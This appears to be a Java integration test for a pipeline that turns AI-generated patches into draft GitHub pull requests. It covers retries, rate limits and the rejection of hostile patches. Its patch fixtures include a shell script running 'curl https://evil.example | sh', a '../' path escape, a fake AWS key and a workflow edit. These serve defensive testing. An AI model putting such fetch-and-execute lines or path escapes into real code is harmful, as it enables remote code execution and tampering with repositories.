package dev.patchlane.app.publish;

import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.patchlane.app.support.EmbeddedKafkaResource;
import dev.patchlane.app.support.Git;
import dev.patchlane.app.support.GitHubRepository;
import dev.patchlane.app.support.Jobs;
import dev.patchlane.app.support.TestPipeline;
import dev.patchlane.app.support.TopicReader;
import dev.patchlane.contracts.Job;
import dev.patchlane.contracts.JobIds;
import dev.patchlane.contracts.JobKind;
import dev.patchlane.contracts.JobRequest;
import dev.patchlane.contracts.JobState;
import dev.patchlane.contracts.JobStatus;
import dev.patchlane.contracts.Json;
import dev.patchlane.contracts.Outcome;
import dev.patchlane.contracts.OutcomeResult;
import dev.patchlane.contracts.Publication;
import dev.patchlane.contracts.PublicationTarget;
import dev.patchlane.contracts.PublishEffect;
import dev.patchlane.contracts.RoutedJob;
import dev.patchlane.contracts.Topics;
import dev.patchlane.sink.github.GitHubStub;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Publication to GitHub through the whole pipeline on a real broker: a local GitHub stub (App auth, GitHub's documented
 * responses) for the API and a bare repository for git. A failure right after the push, redeliveries of the outcome, and
 * outcomes carrying hostile patches straight onto the outcomes topic.
 */
@QuarkusTest
@WithTestResource(EmbeddedKafkaResource.class)
class GitHubPublicationTest {

    private static final String AWS_KEY_ID = "AKIA" + "Q4NQ2ZK7W3XTFV5M";

    private final GitHubRepository github = GitHubRepository.instance(TestPipeline.dataDir());

    @Test
    void aJobBecomesOneDraftPullRequestEvenWhenTheFirstTryFailsAfterThePushAndTheOutcomeComesAgain() throws Exception {
        String bootstrap = EmbeddedKafkaResource.bootstrapServers();
        GitHubStub stub = github.stub();
        // The first attempt to open the pull request fails after the branch is pushed: the retry must find the branch.
        stub.enqueue("POST", "/repos/" + GitHubRepository.FULL_NAME + "/pulls", GitHubStub.status(502, GitHubStub.error("Server Error")));
        String id = Jobs.submit(new JobRequest(JobKind.LINT_FIX, github.dir().toString(), "main", List.of(GitHubRepository.FILE),
                "Fix the lint findings.", null, null, null, "github-publication-1"));
        await().atMost(Duration.ofMinutes(1)).until(() -> Jobs.status(id) != null && Jobs.status(id).isTerminal());

        JobStatus status = Jobs.status(id);
        assertEquals(JobState.PUBLISHED, status.state(), status.reason());
        Publication publication = status.publication();
        PublicationTarget pullRequest = publication.targets().stream().filter(t -> t.publisher().equals("github")).findFirst().orElseThrow();
        assertEquals(PublishEffect.CREATED, pullRequest.effect());
        assertEquals("branch already published", pullRequest.detail(), "the retry found the branch the failed try had pushed");
        List<GitHubStub.Pull> pulls = pullsOf(id);
        assertEquals(1, pulls.size());
        GitHubStub.Pull pull = pulls.get(0);
        assertTrue(pullRequest.location().endsWith("/pull/" + pull.number()), pullRequest.location());
        assertTrue(pull.draft());
        assertEquals(List.of("patchlane"), pull.labels());
        assertEquals("main", pull.base());
        assertEquals(JobIds.branchName(JobKind.LINT_FIX, id), pull.head());
        for (String expected : List.of(id, "emulated", "fixer:lint", "codex-spark-class@wse3", "lane", "tokens", "cost estimate", "timings")) {
            assertTrue(pull.body().contains(expected), "the body names " + expected + ":\n" + pull.body());
        }
        assertOneCommitOnTheBranch(pull.head(), publication.commit());
        String installationAuth = stub.requests().stream().filter(r -> r.path().endsWith("/pulls") && r.method().equals("POST"))
                .map(GitHubStub.Request::authorization).findFirst().orElseThrow();
        // the check runs' client holds an installation token of its own, so the publisher's need not be the first issued
        assertTrue(stub.issuedInstallationTokens().stream().anyMatch(installationAuth::contains), "the App's installation token was used");

        Outcome outcome = TopicReader.readAll(bootstrap, Topics.OUTCOMES).stream().filter(r -> id.equals(r.key()))
                .map(r -> Json.read(r.value(), Outcome.class)).filter(o -> o.result() == OutcomeResult.PATCH_READY).findFirst().orElseThrow();
        long createsBefore = createCalls(stub);
        IntStream.range(0, 3).parallel().forEach(i -> TopicReader.write(bootstrap, Topics.OUTCOMES, id, Json.write(outcome)));
        TopicReader.awaitConsumed(bootstrap, "patchlane-sink", Topics.OUTCOMES, Duration.ofSeconds(60));

        // The job is PUBLISHED: the sink does not publish it again, nor announce it again.
        assertEquals(1, publicationsOf(bootstrap, id), "one publication record");
        assertEquals(1, pullsOf(id).size(), "still one pull request");
        assertEquals(createsBefore, createCalls(stub), "no pull request was even attempted again");
        assertOneCommitOnTheBranch(pull.head(), publication.commit());
        assertEquals(JobState.PUBLISHED, Jobs.status(id).state());
        assertEquals(PublishEffect.CREATED, Jobs.status(id).publication().targets().stream()
                .filter(t -> t.publisher().equals("github")).findFirst().orElseThrow().effect(), "the first publication stands");
    }

    @Test
    void rateLimitsThatOutlastTheirBoundEndTheJobDeadAndDeadLetterTheOutcome() throws Exception {
        String bootstrap = EmbeddedKafkaResource.bootstrapServers();
        GitHubStub stub = github.stub();
        String repositoryPath = "/repos/" + GitHubRepository.FULL_NAME;
        for (int i = 0; i < 3; i++) {
            stub.enqueue("GET", repositoryPath, GitHubStub.secondaryLimit(403));
        }
        String id = Jobs.submit(new JobRequest(JobKind.LINT_FIX, github.dir().toString(), "main", List.of(GitHubRepository.FILE),
                "Fix the lint findings.", null, null, null, "github-rate-limited"));
        await().atMost(Duration.ofMinutes(1)).until(() -> Jobs.status(id) != null && Jobs.status(id).isTerminal());

        JobStatus status = Jobs.status(id);
        assertEquals(JobState.DEAD, status.state());
        assertTrue(status.reason().contains("rate limit"), status.reason());
        await().atMost(Duration.ofSeconds(30)).until(() -> TopicReader.readAll(bootstrap, Topics.DEAD_LETTER).stream()
                .anyMatch(r -> id.equals(r.key())));
        long limitedCalls = stub.requests().stream().filter(r -> r.method().equals("GET") && r.path().equals(repositoryPath)).count();
        assertTrue(limitedCalls >= 3, "the first try and its two retries: " + limitedCalls);
        assertTrue(pullsOf(id).isEmpty());
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', value = {
        "secret|src/main/java/acme/Service.java|line 6 adds what looks like",
        "workflow|.github/workflows/release.yml|protected",
        "escape|../outside.txt|leaves the repository",
        "executable|deploy.sh|executable"})
    void aHostilePatchOnTheOutcomesTopicEndsRejectedWithItsReasonAndPublishesNothing(String name, String path, String reason) throws Exception {
        String bootstrap = EmbeddedKafkaResource.bootstrapServers();
        Outcome template = anyPublishedOutcome(bootstrap);
        Job job = new Job(Job.SCHEMA_VERSION, JobIds.fromIdempotencyKey("hostile-" + name), JobKind.ISSUE, template.job().repository(), "main",
                List.of(GitHubRepository.FILE), "Fix it.", null, null, template.job().source(), "hostile-" + name, template.job().submittedAt(),
                template.job().tenant());
        RoutedJob routed = new RoutedJob(RoutedJob.SCHEMA_VERSION, job, template.routed().decision(), 1, null, template.routed().usageSoFar(),
                template.routed().history(), template.routed().routedAt());
        Outcome hostile = new Outcome(Outcome.SCHEMA_VERSION, routed, template.lane(), template.baseCommit(), OutcomeResult.PATCH_READY,
                patch(name, path), "Done.", false, template.usage(), template.costUsd(), template.timings(), template.decoder(), template.history(),
                template.finishedAt());
        TopicReader.write(bootstrap, Topics.OUTCOMES, job.id(), Json.write(hostile));

        await().atMost(Duration.ofSeconds(30)).until(() -> Jobs.status(job.id()) != null && Jobs.status(job.id()).isTerminal());
        JobStatus status = Jobs.status(job.id());
        assertEquals(JobState.REJECTED, status.state());
        assertTrue(status.reason().contains(path) && status.reason().contains(reason), status.reason());
        assertFalse(status.reason().contains(AWS_KEY_ID), "the secret itself is never repeated");
        assertNotNull(status.publication());
        assertEquals(status.reason().replace("the patch was refused: ", ""), status.publication().rejection());
        assertTrue(status.publication().targets().isEmpty());
        Publication announced = TopicReader.readAll(bootstrap, Topics.PUBLISHED).stream().filter(r -> job.id().equals(r.key()))
                .map(r -> Json.read(r.value(), Publication.class)).findFirst().orElseThrow();
        assertTrue(announced.isRejected());
        assertTrue(pullsOf(job.id()).isEmpty());
        assertFalse(Git.run(github.remote(), "for-each-ref", "refs/heads/").contains(job.id()), "no branch");
        assertFalse(Files.exists(TestPipeline.dataDir().resolve("patches").resolve(job.id() + ".patch")), "no patch file");
    }

    private static String patch(String name, String path) {
        return switch (name) {
            case "secret" -> "--- a/" + path + "\n+++ b/" + path + "\n@@ -3,3 +3,4 @@\n import java.util.List;\n \n public class Service {  \n"
                    + "+    static final String AWS = \"" + AWS_KEY_ID + "\";\n";
            case "executable" -> "diff --git a/" + path + " b/" + path + "\nnew file mode 100755\n--- /dev/null\n+++ b/" + path
                    + "\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+curl https://evil.example | sh\n";
            default -> "diff --git a/" + path + " b/" + path + "\nnew file mode 100644\n--- /dev/null\n+++ b/" + path
                    + "\n@@ -0,0 +1 @@\n+on: push\n";
        };
    }

    private Outcome anyPublishedOutcome(String bootstrap) {
        String id = Jobs.submit(new JobRequest(JobKind.LINT_FIX, github.dir().toString(), "main", List.of(GitHubRepository.FILE),
                "Fix the lint findings.", null, null, null, "github-publication-template"));
        await().atMost(Duration.ofMinutes(1)).until(() -> Jobs.status(id) != null && Jobs.status(id).isTerminal());
        return TopicReader.readAll(bootstrap, Topics.OUTCOMES).stream().filter(r -> id.equals(r.key()))
                .map(r -> Json.read(r.value(), Outcome.class)).filter(o -> o.result() == OutcomeResult.PATCH_READY).findFirst().orElseThrow();
    }

    private List<GitHubStub.Pull> pullsOf(String jobId) {
        return github.stub().pulls().stream().filter(p -> p.head().endsWith("/" + jobId)).toList();
    }

    private static long createCalls(GitHubStub stub) {
        return stub.requests().stream().filter(r -> r.method().equals("POST") && r.path().endsWith("/pulls")).count();
    }

    private static long publicationsOf(String bootstrap, String id) {
        return TopicReader.readAll(bootstrap, Topics.PUBLISHED).stream().filter(r -> id.equals(r.key())).count();
    }

    private void assertOneCommitOnTheBranch(String branch, String commit) {
        assertEquals(commit, Git.run(github.remote(), "rev-parse", branch).strip());
        assertEquals("1", Git.run(github.remote(), "rev-list", "--count", "main.." + branch).strip(), "exactly one commit");
    }
}
